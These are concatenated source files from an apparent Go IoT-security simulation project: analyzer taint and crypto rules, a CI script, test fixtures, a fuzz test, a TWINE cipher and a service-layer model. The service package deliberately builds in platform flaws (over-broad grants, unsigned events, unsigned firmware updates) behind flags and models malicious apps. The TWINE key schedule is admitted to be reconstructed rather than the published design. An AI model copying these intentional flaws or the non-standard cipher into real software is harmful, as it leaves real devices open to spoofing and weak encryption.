	"cmd/xlf-vet":    {"internal/analysis"},

	// Repo tooling: the bench-artifact differ reads exp artifacts and
	// renders with the metrics table.
	"scripts/bench-compare": {"internal/exp", "internal/metrics"},

	"examples/botnet":         {".", "internal/attack", "internal/netsim", "internal/service"},
	"examples/quickstart":     {".", "internal/attack", "internal/service"},
	"examples/smartcity":      {"internal/obs", "internal/testbed"},
	"examples/smarthome":      {".", "internal/analytics", "internal/attack", "internal/service"},
	"examples/trafficprivacy": {"internal/netsim", "internal/shaping", "internal/sim"},
}

// XLFDeterministicPackages are the simulation/experiment reproduction
// paths: no wall-clock reads, no global math/rand (DESIGN.md §5).
var XLFDeterministicPackages = []string{
	"xlf",
	"xlf/internal/attack",
	"xlf/internal/exp",
	"xlf/internal/netsim",
	"xlf/internal/obs",
	"xlf/internal/shaping",
	"xlf/internal/sim",
	"xlf/internal/testbed",
}

// XLFShardStatePackages are the call-tree roots that must stay free of
// package-level mutation for ROADMAP item 2 (sharded deterministic
// PDES): once the kernel shards, any global these packages reach is a
// cross-shard race and a replay divergence.
var XLFShardStatePackages = []string{
	"xlf/internal/core",
	"xlf/internal/exp",
	"xlf/internal/netsim",
	"xlf/internal/sim",
}

// XLFOwnedDomains declares the per-run ownership domains the shardsafe
// layer confines (DESIGN.md §14): each domain maps to the packages
// allowed to hold and return its values (exact path or "prefix/...").
// A value built by an //xlf:owned(domain) constructor must never be
// stored in package-level state, captured by a go statement, sent on a
// channel, or returned from a package outside this set — once ROADMAP
// item 2 shards the kernel, any such escape is a cross-shard race and a
// replay divergence.
var XLFOwnedDomains = map[string][]string{
	// Per-shard kernel state: the timer wheel, event slab and every
	// RNG seeded from it.
	"sim": {
		"xlf/internal/sim", "xlf/internal/netsim", "xlf/internal/shaping",
		"xlf/internal/attack", "xlf/internal/testbed", "xlf/internal/exp",
		"xlf/examples/...",
	},
	// Per-run network topology: gateways, links, in-flight packets.
	"net": {
		"xlf", "xlf/internal/netsim", "xlf/internal/dnsp",
		"xlf/internal/ids", "xlf/internal/shaping", "xlf/internal/behavior",
		"xlf/internal/core", "xlf/internal/attack", "xlf/internal/testbed",
		"xlf/internal/exp", "xlf/examples/...",
	},
	// Per-run observability state: metric registries, tracers, rollups,
	// flight recorders, detection trackers. Every layer may hold them
	// (obs is the universal substrate); the escape rules still forbid
	// globals, go captures and channel transfers.
	"obs": {
		"xlf", "xlf/internal/...", "xlf/cmd/...", "xlf/examples/...",
		"xlf/scripts/...",
	},
	// Per-experiment Env trees (exp.Env.Fork): seeded RNG + clock +
	// telemetry, forked sequentially before any worker runs.
	"exp": {"xlf/internal/exp", "xlf/cmd/..."},
	// Per-home / per-city testbed state.
	"testbed": {
		"xlf/internal/testbed", "xlf/internal/exp", "xlf/examples/...",
	},
}

// XLFGenerationTokens are the generation-checked token types the
// shardhandle rule confines: a stale token is a silent no-op by design,
// so letting one cross a goroutine, channel or package-level boundary
// converts a lost cancellation into an undetectable bug.
var XLFGenerationTokens = []TokenType{
	{Pkg: "xlf/internal/sim", Name: "Handle"},
}

// XLFMapOrderSinks are the calls whose argument order is observable
// output for the maporder rule: trace emits, report-table rows and
// Core signal ingestion — the surfaces the replay hash and the paper's
// tables are built from.
var XLFMapOrderSinks = []TaintRef{
	{Pkg: "xlf/internal/core", Recv: "Core", Name: "Ingest"},
	{Pkg: "xlf/internal/obs", Recv: "Tracer", Name: "Emit"},
	{Pkg: "xlf/internal/obs", Recv: "Tracer", Name: "EmitAt"},
	{Pkg: "xlf/internal/obs", Recv: "Tracer", Name: "EmitSpan"},
	{Pkg: "xlf/internal/metrics", Recv: "Table", Name: "AddRow"},
	{Pkg: "xlf/internal/metrics", Recv: "Table", Name: "AddRowf"},
	{Pkg: "fmt", Name: "Fprintf"},
	{Pkg: "fmt", Name: "Fprintln"},
	{Pkg: "fmt", Name: "Printf"},
	{Pkg: "fmt", Name: "Println"},
}

// XLFSecurityPackages are the packages where a dropped error converts a
// security failure into silent success. metrics and analytics are
// included because a silently-missing observation skews the detection
// statistics the paper's evaluation rests on.
var XLFSecurityPackages = []string{
	"xlf/internal/analytics",
	"xlf/internal/channel",
	"xlf/internal/dnsp",
	"xlf/internal/lwc",
	"xlf/internal/metrics",
	"xlf/internal/xauth",
}

// XLFPlaintextEscape is the §III/§IV cross-layer invariant compiled into
// a dataflow rule: device-layer payload bytes must pass through the
// channel layer's lightweight encryption before any network-layer send.
// Legal imports are not enough — the *data* must take the sealed path.
var XLFPlaintextEscape = TaintRule{
	RuleName: "plaintextescape",
	RuleDoc:  "device payload bytes must be sealed by the lwc channel before reaching a netsim send",
	Tainted:  "plaintext device payload",
	Advice:   "seal it with the device's negotiated channel session",
	Sources: []TaintRef{
		{Pkg: "xlf/internal/device", Name: "NewPayload"},
	},
	Sanitizers: []TaintRef{
		{Pkg: "xlf/internal/channel", Recv: "Session", Name: "Seal"},
	},
	Sinks: []TaintRef{
		{Pkg: "xlf/internal/netsim", Recv: "Network", Name: "Send"},
		{Pkg: "xlf/internal/netsim", Recv: "Network", Name: "Broadcast"},
		{Pkg: "xlf/internal/netsim", Recv: "Gateway", Name: "SendOut"},
	},
}

// XLFSecretLeak keeps xauth/lwc key and token material out of
// observability surfaces: fmt/log formatting, error construction and
// metrics/analytics labels. Redact is the sanctioned display form.
var XLFSecretLeak = TaintRule{
	RuleName: "secretleak",
	RuleDoc:  "xauth token/key material must not flow into fmt/log formatting, errors or metrics labels",
	Tainted:  "secret token/key material",
	Advice:   "log the xauth.Redact form instead",
	Sources: []TaintRef{
		{Pkg: "xlf/internal/xauth", Recv: "Signer", Name: "Issue"},
		{Pkg: "xlf/internal/xauth", Name: "Encode"},
		{Pkg: "xlf/internal/xauth", Name: "Decode"},
	},
	Sanitizers: []TaintRef{
		{Pkg: "xlf/internal/xauth", Name: "Redact"},
	},
	Sinks: []TaintRef{
		{Pkg: "fmt", Name: "Errorf"},
		{Pkg: "fmt", Name: "Sprintf"},
		{Pkg: "fmt", Name: "Sprint"},
		{Pkg: "fmt", Name: "Sprintln"},
		{Pkg: "fmt", Name: "Printf"},
		{Pkg: "fmt", Name: "Print"},
		{Pkg: "fmt", Name: "Println"},
		{Pkg: "log", Name: "Printf"},
		{Pkg: "log", Name: "Print"},
		{Pkg: "log", Name: "Println"},
		{Pkg: "log", Name: "Fatalf"},
		{Pkg: "log", Name: "Fatal"},
		{Pkg: "xlf/internal/metrics", Recv: "Table", Name: "AddRow"},
		{Pkg: "xlf/internal/metrics", Recv: "Table", Name: "AddRowf"},
		{Pkg: "xlf/internal/analytics", Recv: "Correlator", Name: "Evaluate"},
	},
}

// XLFReceiverPairs are the receiver-paired acquire/release obligations
// the pairing rule enforces on every path: mutex critical sections must
// close before the function exits (including explicit panic exits).
// The mutex pairs are lockcheck's balance contract, delegated here.
var XLFReceiverPairs = LockBalancePairs

// XLFValuePairs are the value-bound obligations: an obs trace Region
// must be ended (or handed off) on every path, and timers/tickers must
// be stopped so simulated runs don't leak goroutine-backed resources.
var XLFValuePairs = []ValuePairSpec{
	{
		Methods:    []string{"Start", "StartAt"},
		ResultType: "Region",
		Release:    []string{"End", "EndAt"},
		Noun:       "trace region",
	},
	{PkgPath: "time", Func: "NewTimer", Release: []string{"Stop"}, Noun: "timer"},
	{PkgPath: "time", Func: "NewTicker", Release: []string{"Stop"}, Noun: "ticker"},
}

// XLFCryptoConfig is the crypto-consumer table the cryptomisuse rule
// enforces. Lightweight ciphers (PRESENT, TEA, ...) take 64/80-bit keys
// by design, so their minimum is 8 bytes; the channel/xauth entry points
// carry the paper's 128-bit floor. The simulation's fixed demo keys are
// waived in the baseline with justifications.
var XLFCryptoConfig = CryptoConfig{
	Keys: []CryptoKeyCall{
		{Pkg: "xlf/internal/lwc", Name: "NewDES", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Name: "NewDESL", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Name: "NewTripleDES", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewHIGHT", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewHummingbird", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewHummingbird2", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewIceberg", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Name: "NewLEA", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewPRESENT", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Name: "NewPride", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Name: "NewRC5", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Name: "NewSEED", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewTEA", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewXTEA", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/lwc", Name: "NewTWINE", KeyArg: 0, MinKeyLen: 8},
		{Pkg: "xlf/internal/lwc", Recv: "Registry", Name: "New", KeyArg: 1, MinKeyLen: 8},
		{Pkg: "xlf/internal/channel", Name: "New", KeyArg: 1, MinKeyLen: 16},
		{Pkg: "xlf/internal/xauth", Name: "NewAuthority", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/xauth", Name: "NewSigner", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/xauth", Name: "NewCA", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "xlf/internal/dpi", Name: "NewTokenizer", KeyArg: 0, MinKeyLen: 16},
		{Pkg: "crypto/hmac", Name: "New", KeyArg: 1, MinKeyLen: 16},
	},
	Nonces: []CryptoNonceCall{
		// AEAD-shaped Seal(dst, nonce, plaintext, additional).
		{Name: "Seal", NArgs: 4, NonceArg: 1},
	},
	RandPkgs: []string{"math/rand", "math/rand/v2"},
}

// XLFAnalyzers returns the full rule set configured for this
// repository. One CallGraph (and the type oracle inside it) is shared
// by every interprocedural rule — determinism, lockorder, hotpathalloc,
// the shard-safety layer and the taint suite — so the module is
// type-checked and its call edges resolved exactly once per run.
func XLFAnalyzers() []Analyzer {
	g := NewCallGraph()
	out := []Analyzer{
		NewLayerCheck(XLFModule, XLFLayerTable),
		NewDeterminism(XLFDeterministicPackages, g),
		NewLockCheck(),
		NewErrDrop(XLFSecurityPackages),
		NewPairingAnalyzer(XLFReceiverPairs, XLFValuePairs),
		NewCryptoMisuse(XLFCryptoConfig),
		NewDeadStore(),
		NewUnreachable(),
		// Concurrency-safety layer (DESIGN.md §10).
		NewLockOrder(g),
		NewGoroLeak(),
		NewAtomicMix(),
		NewHotPathAlloc(g),
		// Interprocedural shard-safety & determinism layer (DESIGN.md §11).
		NewDetFlow(XLFDeterministicPackages, g),
		NewGlobalMut(XLFShardStatePackages, g),
		NewMapOrder(XLFDeterministicPackages, XLFMapOrderSinks, g),
	}
	// Ownership & shard-isolation layer (DESIGN.md §14).
	out = append(out, NewShardSafeSuite(XLFOwnedDomains, XLFGenerationTokens, g)...)
	return append(out, NewTaintSuite(g, XLFPlaintextEscape, XLFSecretLeak)...)
}
