#!/usr/bin/env sh
# The full local/CI gate for the xlf repository. Mirrors
# .github/workflows/ci.yml; `make check` runs this script.
set -eu

cd "$(dirname "$0")/.."

echo '>> gofmt'
unformatted=$(gofmt -l .)
if [ -n "$unformatted" ]; then
	echo "gofmt needed on:" >&2
	echo "$unformatted" >&2
	exit 1
fi

echo '>> go vet ./...'
go vet ./...

echo '>> go build ./...'
go build ./...

echo '>> go test -race ./...'
go test -race ./...

# Fuzz smoke: a few seconds per corpus keeps the harnesses honest (a
# bit-rotted fuzz target fails here, not six months from now) and still
# catches shallow regressions in the codec/seal paths.
echo '>> fuzz smoke (5s per target)'
go test -run='^$' -fuzz='^FuzzOpen$' -fuzztime=5s ./internal/channel
go test -run='^$' -fuzz='^FuzzCodecOpen$' -fuzztime=5s ./internal/dnsp
go test -run='^$' -fuzz='^FuzzSealOpenRoundTrip$' -fuzztime=5s ./internal/dnsp
go test -run='^$' -fuzz='^FuzzDecode$' -fuzztime=5s ./internal/xauth
go test -run='^$' -fuzz='^FuzzCFGBuild$' -fuzztime=5s ./internal/analysis
go test -run='^$' -fuzz='^FuzzLockOrderGraph$' -fuzztime=5s ./internal/analysis
go test -run='^$' -fuzz='^FuzzCallGraph$' -fuzztime=5s ./internal/analysis
go test -run='^$' -fuzz='^FuzzShardSafe$' -fuzztime=5s ./internal/analysis
go test -run='^$' -fuzz='^FuzzKernelSchedule$' -fuzztime=5s ./internal/sim

echo '>> xlf-vet ./... (self-gate, baselined, strict on stale waivers)'
go run ./cmd/xlf-vet -baseline vet-baseline.json -strict-baseline ./...

# The reproduction-contract layer (make vet-determinism) again under the
# race detector: the shared call graph is built once and read by several
# analyzers across the worker pool.
echo '>> xlf-vet determinism layer (race detector)'
go run -race ./cmd/xlf-vet -only determinism,detflow,globalmut,maporder,hotpathalloc -baseline vet-baseline.json ./...

# The ownership/shard-isolation layer (make vet-shardsafe) again under
# the race detector: the escape and phase fixed points are computed once
# in Prepare and read concurrently by the worker pool.
echo '>> xlf-vet shardsafe layer (race detector)'
go run -race ./cmd/xlf-vet -only shardsafe -baseline vet-baseline.json ./...

# Driver determinism: the SARIF report must be byte-identical at
# -parallel 1 and -parallel 8, with a cold and then a warm result cache,
# with the worker pool running under the race detector.
echo '>> xlf-vet determinism (parallel 8 vs sequential, cold/warm cache, race detector)'
vetdir=$(mktemp -d)
trap 'rm -rf "$vetdir"' EXIT
go run -race ./cmd/xlf-vet -sarif -parallel 1 ./... >"$vetdir/serial.sarif" || true
go run -race ./cmd/xlf-vet -sarif -parallel 8 ./... >"$vetdir/parallel.sarif" || true
go run -race ./cmd/xlf-vet -sarif -parallel 8 -cache-dir "$vetdir/cache" ./... >"$vetdir/cold.sarif" || true
go run -race ./cmd/xlf-vet -sarif -parallel 8 -cache-dir "$vetdir/cache" ./... >"$vetdir/warm.sarif" || true
cmp "$vetdir/serial.sarif" "$vetdir/parallel.sarif"
cmp "$vetdir/serial.sarif" "$vetdir/cold.sarif"
cmp "$vetdir/serial.sarif" "$vetdir/warm.sarif"

# The same determinism bar for the shardsafe family on its own: the
# interprocedural escape/phase summaries must not depend on worker
# interleaving or on whether results came from the cache.
echo '>> xlf-vet shardsafe determinism (parallel 8 vs sequential, cold/warm cache, race detector)'
go run -race ./cmd/xlf-vet -only shardsafe -sarif -parallel 1 ./... >"$vetdir/ss-serial.sarif" || true
go run -race ./cmd/xlf-vet -only shardsafe -sarif -parallel 8 ./... >"$vetdir/ss-parallel.sarif" || true
go run -race ./cmd/xlf-vet -only shardsafe -sarif -parallel 8 -cache-dir "$vetdir/ss-cache" ./... >"$vetdir/ss-cold.sarif" || true
go run -race ./cmd/xlf-vet -only shardsafe -sarif -parallel 8 -cache-dir "$vetdir/ss-cache" ./... >"$vetdir/ss-warm.sarif" || true
cmp "$vetdir/ss-serial.sarif" "$vetdir/ss-parallel.sarif"
cmp "$vetdir/ss-serial.sarif" "$vetdir/ss-cold.sarif"
cmp "$vetdir/ss-serial.sarif" "$vetdir/ss-warm.sarif"

# Blocking: warm-cache full-repo vet wall time must stay within 1.25x of
# the committed bench/seed/VET.json budget (the guard primes its own
# cache, so only the warm path is timed).
echo '>> xlf-vet warm-cache wall-time budget'
XLF_VET_WALL_GUARD=1 go test -run='^TestVetWarmWallBudget$' -v ./cmd/xlf-vet

# Scheduler determinism: the full report rendered at -parallel 8 must be
# byte-identical to the sequential run under the step clock, with the
# worker pool running under the race detector.
echo '>> xlf-bench determinism (parallel 8 vs sequential, race detector)'
benchdir=$(mktemp -d)
trap 'rm -rf "$benchdir"' EXIT
go run -race ./cmd/xlf-bench -all -clock step -seed 1 -parallel 1 \
	-json "$benchdir/sequential" >"$benchdir/report-sequential.txt"
go run -race ./cmd/xlf-bench -all -clock step -seed 1 -parallel 8 \
	-json "$benchdir/parallel" >"$benchdir/report-parallel.txt"
cmp "$benchdir/report-sequential.txt" "$benchdir/report-parallel.txt"

# Non-blocking: the artifact differ reports drift between the two runs
# (step-clock hashes must match; wall-clock ratios are informational).
echo '>> bench-compare (non-blocking)'
go run ./scripts/bench-compare -base "$benchdir/sequential" -new "$benchdir/parallel" ||
	echo 'bench-compare: drift noted (non-blocking)'

# Blocking: the step-clock run must reproduce the committed bench/seed
# baselines bit-for-bit (headline numbers and rendered output). The wall
# tolerance is wide open because the committed telemetry is
# machine-specific; only determinism drift fails here.
echo '>> bench-compare vs committed bench/seed (blocking on numbers/output)'
go run ./scripts/bench-compare -base bench/seed -new "$benchdir/sequential" -wall-tolerance 1e9

# Trace determinism: with the step clock and the tracer enabled, the
# serialized span timeline must be byte-identical across runs and across
# -parallel levels (the worker pool again under the race detector), and
# xlf-trace must render it.
echo '>> xlf-trace determinism (tracer on, parallel 4 vs sequential, race detector)'
go run -race ./cmd/xlf-bench -exp E1 -clock step -seed 1 -parallel 1 \
	-trace "$benchdir/trace-sequential.jsonl" >/dev/null
go run -race ./cmd/xlf-bench -exp E1 -clock step -seed 1 -parallel 4 \
	-trace "$benchdir/trace-parallel.jsonl" >/dev/null
cmp "$benchdir/trace-sequential.jsonl" "$benchdir/trace-parallel.jsonl"
go run ./cmd/xlf-trace "$benchdir/trace-sequential.jsonl" >"$benchdir/trace-timeline.txt"

# Telemetry determinism: with the step clock and telemetry enabled, the
# serialized xlf-metrics/v1 artifact (rollup windows + flight-recorder
# dumps, attack timeline included) must be byte-identical across
# -parallel levels with the worker pool under the race detector, and
# `xlf-trace metrics` must render it.
echo '>> telemetry determinism (rollups on, parallel 8 vs sequential, race detector)'
go run -race ./cmd/xlf-bench -exp E10 -clock step -seed 1 -parallel 1 \
	-telemetry "$benchdir/metrics-sequential.jsonl" >/dev/null
go run -race ./cmd/xlf-bench -exp E10 -clock step -seed 1 -parallel 8 \
	-telemetry "$benchdir/metrics-parallel.jsonl" >/dev/null
cmp "$benchdir/metrics-sequential.jsonl" "$benchdir/metrics-parallel.jsonl"
go run ./cmd/xlf-trace metrics "$benchdir/metrics-sequential.jsonl" >"$benchdir/metrics-rollup.txt"

# Non-blocking: disabled-tracer overhead on the Core hot path. The two
# ingest benchmarks must stay within noise of each other; the numbers are
# printed for the log, never gating (micro-benchmarks flap on shared CI).
echo '>> tracer overhead benchmark (non-blocking)'
go test -run='^$' -bench='^BenchmarkCoreIngest(Traced)?$' -benchtime=1s . ||
	echo 'tracer overhead bench: failed (non-blocking)'

# Informational numbers for the log: kernel dispatch and netsim send
# must print 0 allocs/op. The enforcement lives in the AllocsPerRun
# tests above (the dynamic half of the //xlf:hotpath contract); this
# step puts the ns/op trend where reviewers can see it.
echo '>> kernel hot-path benchmarks'
go test -run='^$' -bench='^BenchmarkKernelDispatch$' -benchmem -benchtime=1s ./internal/sim
go test -run='^$' -bench='^BenchmarkNetsimSend$' -benchmem -benchtime=1s ./internal/netsim

# Informational: cost of the shardsafe family over the real tree (load,
# type-check, call graph, escape/phase fixed points, check). Trend only;
# the blocking budget is the warm-cache wall guard above.
echo '>> shardsafe analyzer benchmark'
go test -run='^$' -bench='^BenchmarkVetShardSafe$' -benchtime=1x ./cmd/xlf-vet

echo 'all checks passed'
