// Aliased imports and shadowing locals: the rule resolves the qualifier
// by go/types object identity, so wall-clock reads through an import
// alias are caught and a local variable that happens to share an import
// package's name stays quiet.
package sim

import (
	r "math/rand"
	t "time"
)

func aliased(t0 t.Time) {
	_ = t.Now()     // want "\[determinism\] wall-clock read time.Now"
	_ = t.Since(t0) // want "\[determinism\] wall-clock read time.Since"
	_ = r.Intn(5)   // want "\[determinism\] global math/rand.Intn"
	_ = r.New(r.NewSource(1)).Intn(5)
}

// fakeClock stands in for a local value named after an import.
type fakeClock struct{}

func (fakeClock) Now() int     { return 0 }
func (fakeClock) Intn(int) int { return 0 }

func shadowed() {
	time := fakeClock{}
	rand := fakeClock{}
	_ = time.Now() // a local, not the time package
	_ = rand.Intn(3)
}
