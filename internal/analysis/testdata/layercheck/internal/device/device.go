// Package device is a layercheck fixture: the test's table grants it only
// internal/lwc, so the service-layer import below is a violation.
package device

import (
	"fmt"

	"example.com/m/internal/lwc"
	"example.com/m/internal/service" // want "\[layercheck\] layer violation: internal/device may not import internal/service"
)

var _ = fmt.Sprint(lwc.Registry{}, service.Cloud{})
