package channel

import (
	"bytes"
	"testing"

	"xlf/internal/lwc"
)

// FuzzOpen: arbitrary wire bytes must never panic the session parser, and
// nothing the fuzzer fabricates may pass authentication (the only accepted
// messages are the ones the peer sealed).
func FuzzOpen(f *testing.F) {
	reg := lwc.NewRegistry()
	info, _ := reg.Lookup("PRESENT")
	key := bytes.Repeat([]byte{9}, 10)
	sender, err := New(info, key)
	if err != nil {
		f.Fatal(err)
	}
	sealed, err := sender.Seal([]byte("hello"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(sealed)
	f.Add([]byte{})
	f.Add(bytes.Repeat([]byte{0}, 32))

	f.Fuzz(func(t *testing.T, msg []byte) {
		recv, err := New(info, key)
		if err != nil {
			t.Fatal(err)
		}
		got, err := recv.Open(msg)
		if err != nil {
			return
		}
		// Only the seeded genuine message may open.
		if !bytes.Equal(msg, sealed) || !bytes.Equal(got, []byte("hello")) {
			t.Fatalf("forged message accepted: msg=%x got=%q", msg, got)
		}
	})
}
