package lwc

import "crypto/cipher"

// TWINE (Suzaki et al., SAC 2012) is a 64-bit block cipher with 80- or
// 128-bit keys, built as a 16-branch Type-2 generalized Feistel network
// with 36 rounds (Table III lists 32). This is a structure-faithful
// reimplementation: the S-box and block shuffle follow the published
// design; the key schedule follows the published shape (nibble register,
// S-box injections, 6-bit round constants from an LFSR) with reconstructed
// extraction positions. Validated by property tests.

// twineSBox is the TWINE 4-bit S-box.
var twineSBox = [16]byte{
	0xC, 0x0, 0xF, 0xA, 0x2, 0xB, 0x9, 0x5,
	0x8, 0x3, 0xD, 0x7, 0x1, 0xE, 0x6, 0x4,
}

// twineShuffle is the block shuffle pi: nibble i moves to twineShuffle[i].
var twineShuffle = [16]byte{5, 0, 1, 4, 7, 12, 3, 8, 13, 6, 9, 2, 15, 10, 11, 14}

var twineShuffleInv = invert16(twineShuffle)

func invert16(p [16]byte) [16]byte {
	var inv [16]byte
	for i, v := range p {
		inv[v] = byte(i)
	}
	return inv
}

const twineRounds = 36

type twine struct {
	rk [twineRounds][8]byte // 8 nibble round keys per round
}

var _ cipher.Block = (*twine)(nil)

// NewTWINE returns TWINE-80 or TWINE-128 depending on key length.
func NewTWINE(key []byte) (cipher.Block, error) {
	switch len(key) {
	case 10, 16:
	default:
		return nil, KeySizeError{Algorithm: "TWINE", Len: len(key)}
	}

	// Key register as nibbles, high nibble first.
	reg := make([]byte, 0, len(key)*2)
	for _, b := range key {
		reg = append(reg, b>>4, b&0xF)
	}

	// 6-bit round constants from the LFSR x^6+x+1, state seeded to 1.
	con := byte(1)
	nextCon := func() byte {
		c := con
		fb := (con >> 5) ^ (con>>4)&1
		con = (con<<1 | fb&1) & 0x3F
		return c
	}

	var c twine
	n := len(reg)
	for r := 0; r < twineRounds; r++ {
		// Extract 8 round-key nibbles at fixed even positions.
		for j := 0; j < 8; j++ {
			c.rk[r][j] = reg[(2*j+1)%n]
		}
		// Inject round constant and S-box feedback, then rotate.
		rc := nextCon()
		reg[1] ^= twineSBox[reg[0]]
		reg[4] ^= twineSBox[reg[16%n]]
		reg[7] ^= rc >> 3
		reg[19%n] ^= rc & 7
		// Rotate the register left by 3 nibbles. Three is coprime with
		// both register lengths (20 and 32 nibbles), so every key nibble
		// visits every position and is eventually extracted into a round
		// key — a rotation sharing a factor with the register length
		// would leave whole orbits of key material unused.
		rot := append(append([]byte{}, reg[3:]...), reg[:3]...)
		copy(reg, rot)
	}
	return &c, nil
}

func (c *twine) BlockSize() int { return 8 }

func toNibbles(src []byte) [16]byte {
	var x [16]byte
	for i := 0; i < 8; i++ {
		x[2*i] = src[i] >> 4
		x[2*i+1] = src[i] & 0xF
	}
	return x
}

func fromNibbles(dst []byte, x [16]byte) {
	for i := 0; i < 8; i++ {
		dst[i] = x[2*i]<<4 | x[2*i+1]
	}
}

func (c *twine) Encrypt(dst, src []byte) {
	checkBlock("TWINE", 8, dst, src)
	x := toNibbles(src)
	for r := 0; r < twineRounds; r++ {
		for j := 0; j < 8; j++ {
			x[2*j+1] ^= twineSBox[x[2*j]^c.rk[r][j]]
		}
		if r != twineRounds-1 {
			var y [16]byte
			for i := 0; i < 16; i++ {
				y[twineShuffle[i]] = x[i]
			}
			x = y
		}
	}
	fromNibbles(dst, x)
}

func (c *twine) Decrypt(dst, src []byte) {
	checkBlock("TWINE", 8, dst, src)
	x := toNibbles(src)
	for r := twineRounds - 1; r >= 0; r-- {
		for j := 0; j < 8; j++ {
			x[2*j+1] ^= twineSBox[x[2*j]^c.rk[r][j]]
		}
		if r != 0 {
			var y [16]byte
			for i := 0; i < 16; i++ {
				y[twineShuffleInv[i]] = x[i]
			}
			x = y
		}
	}
	fromNibbles(dst, x)
}
