// Package service models the IoT service layer (§II-C, §IV-C): a
// SmartThings-style cloud with device handlers, an event bus with
// subscriptions, sandboxed trigger-action SmartApps (IFTTT-style applets
// use the same model), OAuth2-style scoped API tokens, and an OTA update
// pipeline. The platform reproduces the design flaws Fernandes et al.
// found — coarse capability grants (over-privilege) and unsigned events
// (spoofing) — behind feature flags, so the attack scenarios and the XLF
// defenses exercise the same code paths.
package service

import (
	"errors"
	"fmt"
	"sort"
	"time"
)

// Event is one message on the platform bus.
type Event struct {
	Time     time.Duration
	DeviceID string
	// Name is the event label ("motion", "on", "temperature").
	Name string
	// Value carries an optional reading.
	Value float64
	// Source is ground truth for evaluation: "device", "app:<id>", or
	// "spoofed:<attacker>"; subscribers do NOT base decisions on it
	// unless the platform signs events.
	Source string
}

// Command is a platform-issued device operation.
type Command struct {
	Time     time.Duration
	DeviceID string
	// Name is the command label ("on", "unlock", "heat").
	Name string
	// IssuedBy is the app or user that caused it.
	IssuedBy string
}

// Rule is a trigger-action automation: when the trigger event arrives,
// issue the action command.
type Rule struct {
	TriggerDevice string
	TriggerEvent  string
	// TriggerAbove, when non-nil, also requires Value > *TriggerAbove
	// (the paper's "open the window when the temperature increases above
	// 80F" example).
	TriggerAbove  *float64
	ActionDevice  string
	ActionCommand string
}

// SmartApp is a sandboxed automation program with capability grants.
type SmartApp struct {
	ID     string
	Rules  []Rule
	Grants []Grant
	// Malicious marks ground-truth rogue apps for evaluation.
	Malicious bool
	// Hook, when set, runs on every delivered event after rule
	// processing; malicious apps use it to exfiltrate or issue hidden
	// commands via the returned command list.
	Hook func(ev Event) []Command
}

// Grant is a capability permission on one device.
type Grant struct {
	DeviceID   string
	Capability string
}

// Platform flaws (§IV-C2), switchable to compare vulnerable vs hardened
// configurations.
type Flaws struct {
	// CoarseGrants reproduces SmartThings over-privilege: holding any
	// capability of a device implies all capabilities of that device.
	CoarseGrants bool
	// UnsignedEvents lets any caller publish events in a device's name
	// (event spoofing & insufficient event data protection).
	UnsignedEvents bool
	// OpenRedirectOTA accepts unsigned firmware images in the OTA
	// pipeline.
	OpenRedirectOTA bool
}

// Errors returned by platform operations.
var (
	ErrUnknownDevice  = errors.New("service: unknown device")
	ErrUnknownApp     = errors.New("service: unknown app")
	ErrNotPermitted   = errors.New("service: capability not granted")
	ErrSpoofRejected  = errors.New("service: unsigned event rejected")
	ErrUnsignedImage  = errors.New("service: unsigned OTA image rejected")
	ErrScopeViolation = errors.New("service: token scope violation")
)

// DeviceHandler is the cloud-side shadow of a device.
type DeviceHandler struct {
	ID   string
	Caps []string
	// CapOfCommand maps command names to the capability they require.
	CapOfCommand map[string]string
	// Deliver pushes a command down to the physical device; installed by
	// the testbed. A nil Deliver records but does not actuate.
	Deliver func(cmd Command) error
	// shadow is the last reported event per name.
	shadow map[string]Event
}

// Cloud is the service-layer platform.
type Cloud struct {
	Flaws Flaws

	devices map[string]*DeviceHandler
	apps    map[string]*SmartApp

	// CommandLog is every command the platform issued (evaluation and
	// §IV-C2 application verification read this).
	commandLog []Command
	eventLog   []Event

	// EventMonitor, when set, sees every accepted event (XLF service-layer
	// feed into the Core).
	EventMonitor func(ev Event)
	// CommandMonitor, when set, sees every issued command.
	CommandMonitor func(cmd Command)

	now func() time.Duration
}

// NewCloud creates a platform. now supplies simulation time.
func NewCloud(flaws Flaws, now func() time.Duration) *Cloud {
	if now == nil {
		now = func() time.Duration { return 0 }
	}
	return &Cloud{
		Flaws:   flaws,
		devices: make(map[string]*DeviceHandler),
		apps:    make(map[string]*SmartApp),
		now:     now,
	}
}

// RegisterDevice adds a device handler.
func (c *Cloud) RegisterDevice(h *DeviceHandler) error {
	if h.ID == "" {
		return errors.New("service: device with empty ID")
	}
	if _, dup := c.devices[h.ID]; dup {
		return fmt.Errorf("service: duplicate device %q", h.ID)
	}
	if h.shadow == nil {
		h.shadow = make(map[string]Event)
	}
	c.devices[h.ID] = h
	return nil
}

// InstallApp adds a SmartApp after validating its grants reference known
// devices.
func (c *Cloud) InstallApp(app *SmartApp) error {
	if app.ID == "" {
		return errors.New("service: app with empty ID")
	}
	if _, dup := c.apps[app.ID]; dup {
		return fmt.Errorf("service: duplicate app %q", app.ID)
	}
	for _, g := range app.Grants {
		if _, ok := c.devices[g.DeviceID]; !ok {
			return fmt.Errorf("service: grant references %w: %s", ErrUnknownDevice, g.DeviceID)
		}
	}
	c.apps[app.ID] = app
	return nil
}

